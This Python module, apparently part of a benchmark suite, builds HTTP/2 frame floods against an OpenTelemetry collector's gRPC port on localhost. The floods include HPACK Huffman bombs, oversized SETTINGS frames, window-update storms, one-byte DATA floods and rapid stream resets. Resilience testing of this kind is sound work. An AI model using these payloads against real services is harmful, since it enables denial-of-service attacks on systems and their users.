"""Attacks on the collector's OTLP/gRPC port: frames of HTTP/2 that are legal and costly (RFC 9113, RFC 7541)."""

from __future__ import annotations

import struct
from collections.abc import Callable

from benchmarks.attacks.flood import Attack, Flood, always

DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
PATH = b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"
# Indexed: POST, http; literals: path, authority, content type.
CALL = (
    *(b"\x83\x86\x04", bytes([len(PATH)]), PATH, b"\x01\x09127.0.0.1", b"\x0f\x10\x10application/grpc"),
)  # fmt: skip
REQUEST = b"".join(CALL)
# Eight times "a": its code is of five bits (RFC 7541, appendix B).
EIGHT_A = bytes.fromhex("18c6318c63")


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def calls(block: bytes, count: int, *, ended: bool = True, then: bytes = b"") -> Callable[[int], bytes]:
    """In each round so many new streams with this header block."""
    flags = END_HEADERS | (END_STREAM if ended else 0)

    def repeat(number: int) -> bytes:
        first = 1 + 2 * count * number
        return b"".join(frame(HEADERS, flags, first + 2 * at, block) for at in range(count)) + then

    return repeat


def huffman(size: int) -> bytes:
    """A field whose value is Huffman-coded, of so many characters (a multiple of eight)."""
    coded = EIGHT_A * (size // 8)
    length, rest = bytearray([0xFF]), len(coded) - 127
    while rest > 127:
        length.append(rest & 127 | 128)
        rest >>= 7
    return b"\0\1a" + bytes([*length, rest]) + coded


def windows(count: int) -> bytes:
    """SETTINGS that change the window of every open stream, `count` times."""
    changed = struct.pack(">HIHI", INITIAL_WINDOW_SIZE, 100, INITIAL_WINDOW_SIZE, 101)
    return frame(SETTINGS, 0, 0, changed) * count


SETTING = struct.pack(">HI", INITIAL_WINDOW_SIZE, 100)
OPEN_CALLS = calls(REQUEST, 256, ended=False)(0)

FLOODS: dict[str, tuple[int, bytes, Callable[[int], bytes]]] = {
    "480 tiny fields": (100, b"", calls(REQUEST + b"\0\1a\0" * 480, 100)),
    "SETTINGS of 2,700 entries": (100, b"", always(frame(SETTINGS, 0, 0, SETTING * 2700) * 15)),
    "long Huffman": (100, b"", calls(REQUEST + huffman(15_000), 25)),
    "windows of 256 streams": (100, OPEN_CALLS, always(windows(2000))),
    "DATA of one byte": (100, frame(HEADERS, END_HEADERS, 1, REQUEST), always(frame(DATA, 0, 1, b"a") * 10_000)),
    "streams opened and reset": (
        100, b"",
        lambda number: b"".join(
            frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, bytes(4))
            for stream in range(1 + 1000 * number, 1001 + 1000 * number, 2)
        ),
    ),
}  # fmt: skip
ATTACKS = {
    f"collector, gRPC: {count} with {name}": Attack("collector", (Flood("grpc", count, GREETING + start, repeat),))
    for name, (count, start, repeat) in FLOODS.items()
}
